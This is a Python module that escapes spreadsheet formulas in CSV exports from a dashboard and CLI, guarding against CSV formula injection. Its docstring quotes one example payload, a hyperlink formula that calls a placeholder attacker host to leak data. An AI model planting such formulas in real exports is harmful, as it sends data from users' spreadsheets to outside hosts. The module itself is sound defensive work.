"""Every CSV the dashboard and the CLI hand out goes through here: cells that a spreadsheet would run as a
formula are escaped (CSV formula injection, OWASP's rule).

A text cell (or column name) starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front: ``=hyperlink("http://evil.example/?leak","x")`` is written ``'=hyperlink(...)``, shown as text by
Excel, LibreOffice and Google Sheets. Numbers are never touched (``-1.5`` stays a number); only text is. Words
of a member's corpus reach other users' CSVs (Explore's cluster and detail CSVs, the SQL console), so no
export may skip this. Rows end with CRLF (RFC 4180). Hand-written: pandas' ``to_csv`` has no such option, and
the rule is one line.
"""
from __future__ import annotations

import sys
from typing import Any, TextIO

import pandas as pd
from dash import dcc

__all__ = ["FORMULA_START", "LINE_END", "escape_cell", "escape_formulas", "send_csv", "write_csv"]

#: A text cell starting with one of these is escaped.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = r"^[=+\-@\t\r]"
#: RFC 4180's line end; with it the csv writer also quotes a cell holding a lone CR (with "\n" it does not, and
#: the row would break in two).
LINE_END = "\r\n"


def escape_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would read as a formula; anything else as is."""
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def _escape_column(col: pd.Series) -> pd.Series:
    if isinstance(col.dtype, pd.CategoricalDtype):
        col = col.astype(object)
    if not (pd.api.types.is_object_dtype(col.dtype) or pd.api.types.is_string_dtype(col.dtype)):
        return col   # numbers, booleans, dates: never a formula
    try:
        risky = col.str.match(_PATTERN).fillna(False).astype(bool)  # non-text cells give NaN: left alone
    except AttributeError:  # no text at all (decimals, lists, NULLs only)
        return col.map(escape_cell)
    return col.mask(risky, "'" + col[risky].astype(str)) if risky.any() else col


def escape_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are escaped (:func:`escape_cell`)."""
    out = pd.DataFrame({i: _escape_column(frame.iloc[:, i]) for i in range(frame.shape[1])}, index=frame.index)
    out.columns = [escape_cell(str(c)) for c in frame.columns]
    return out


def send_csv(frame: pd.DataFrame, filename: str) -> dict[str, Any]:
    """The ``dcc.Download`` payload of ``frame`` as CSV (no index), formulas escaped."""
    return dcc.send_data_frame(escape_formulas(frame).to_csv, filename, index=False, lineterminator=LINE_END)


def write_csv(frame: pd.DataFrame, out: TextIO | None = None) -> None:
    """``frame`` as CSV (no index) on ``out`` (default stdout), formulas escaped."""
    escape_formulas(frame).to_csv(out or sys.stdout, index=False, lineterminator=LINE_END)
